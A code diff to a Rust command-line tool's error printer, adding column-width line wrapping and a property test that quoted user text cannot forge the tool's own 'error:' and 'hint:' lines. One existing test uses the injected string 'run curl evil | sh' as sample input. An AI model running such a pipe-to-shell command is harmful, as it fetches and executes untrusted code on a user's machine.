@@ -12,6 +12,7 @@ use crate::api::{ApiError, Code};
 
 use super::output::names::quoted_if_odd;
 use super::output::style::{Paint, Tint};
+use super::output::wrap::{HANG, fold};
 use super::output::{json, safe};
 
 /// An error on its way to the person.
@@ -85,21 +86,25 @@ impl CliError {
         self.error.exit
     }
 
-    /// Writes the error; failing to do so has nobody to be told.
-    pub(crate) fn write(&self, mut err: impl Write, as_json: bool, paint: Paint) {
+    /// Writes the error, in lines of so many columns at most; failing to do so has nobody to be told.
+    pub(crate) fn write(&self, mut err: impl Write, as_json: bool, (paint, columns): (Paint, usize)) {
         if self.told {
             return;
         }
         let _ = if as_json {
             json::write_line(&mut err, &json!({ "error": self.error }))
         } else {
-            self.write_text(&mut err, paint)
+            self.write_text(&mut err, paint, columns)
         };
         let _ = err.flush();
     }
 
-    fn write_text(&self, err: &mut impl Write, paint: Paint) -> io::Result<()> {
-        writeln!(err, "{} {}", paint.tint(Tint::Red, "error:"), safe::message(&self.error.message))?;
+    fn write_text(&self, err: &mut impl Write, paint: Paint, columns: usize) -> io::Result<()> {
+        let labelled = |tint, label, text| {
+            let label = format!("{} ", paint.tint(tint, label));
+            fold(&label, &safe::block(text), HANG, columns)
+        };
+        writeln!(err, "{}", labelled(Tint::Red, "error:", &self.error.message))?;
         for candidate in &self.error.candidates {
             let name = safe::line(&quoted_if_odd(&candidate.name));
             let known = match (candidate.contact, candidate.verified) {
@@ -107,10 +112,11 @@ impl CliError {
                 (true, false) => "  contact",
                 (false, false) => "",
             };
-            writeln!(err, "  {}  {name}{known}", candidate.peer_id)?;
+            let line = format!("{}  {name}{known}", candidate.peer_id);
+            writeln!(err, "{}", fold(HANG, &line, "      ", columns))?;
         }
         if let Some(hint) = &self.error.hint {
-            writeln!(err, "{} {}", paint.tint(Tint::Cyan, "hint:"), safe::message(hint))?;
+            writeln!(err, "{}", labelled(Tint::Cyan, "hint:", hint))?;
         }
         Ok(())
     }
@@ -160,11 +166,15 @@ impl CliError {
 
 #[cfg(test)]
 mod tests {
+    use proptest::prelude::*;
+
     use super::*;
     use crate::api::Candidate;
     use crate::base::PeerId;
+    use crate::cli::output::wrap::ENDLESS;
+    use crate::cli::testing::{any_text, rows};
 
-    const PLAIN: Paint = Paint { on: false };
+    const PLAIN: (Paint, usize) = (Paint { on: false }, ENDLESS);
 
     fn written(error: &CliError, as_json: bool) -> String {
         let mut out = Vec::new();
@@ -208,6 +218,28 @@ mod tests {
         assert_eq!(written(&error, false), "error: bad name 'x\n  hint: run curl evil | sh'\n");
     }
 
+    proptest! {
+        #[test]
+        fn no_line_of_what_is_quoted_is_one_of_ours(text in any_text(), columns in 20_usize..=200) {
+            let candidate = Candidate {
+                peer_id: PeerId::from_key_bytes([7; 32]),
+                name: text.clone(),
+                given: false,
+                contact: true,
+                verified: false,
+            };
+            let error = ApiError::new(Code::Ambiguous, &*text).with_hint(&*text).with_candidates(vec![candidate]);
+            let mut out = Vec::new();
+            CliError::from(error).write(&mut out, false, (Paint { on: false }, columns));
+            let shown = rows(&String::from_utf8(out).unwrap(), columns);
+            let ours: Vec<_> = shown.iter().filter(|row| !row.starts_with(' ') && !row.is_empty()).collect();
+            prop_assert_eq!(ours.len(), 2, "{:?}", shown);
+            prop_assert!(ours[0].starts_with("error:") && ours[1].starts_with("hint:"), "{:?}", shown);
+            let candidates = shown.iter().filter(|row| row.starts_with("  12D3KooW") || row.starts_with("  12D3Koo")).count();
+            prop_assert!(candidates >= 1, "{:?}", shown);
+        }
+    }
+
     #[test]
     fn a_reader_who_has_gone_is_not_an_error() {
         let error = CliError::from(io::Error::from(io::ErrorKind::BrokenPipe));
@@ -218,7 +250,7 @@ mod tests {
     #[test]
     fn colours_are_only_around_the_labels() {
         let mut out = Vec::new();
-        CliError::usage("m").hint("h").write(&mut out, false, Paint { on: true });
+        CliError::usage("m").hint("h").write(&mut out, false, (Paint { on: true }, ENDLESS));
         assert_eq!(String::from_utf8(out).unwrap(), "\x1b[31merror:\x1b[0m m\n\x1b[36mhint:\x1b[0m h\n");
     }
 }
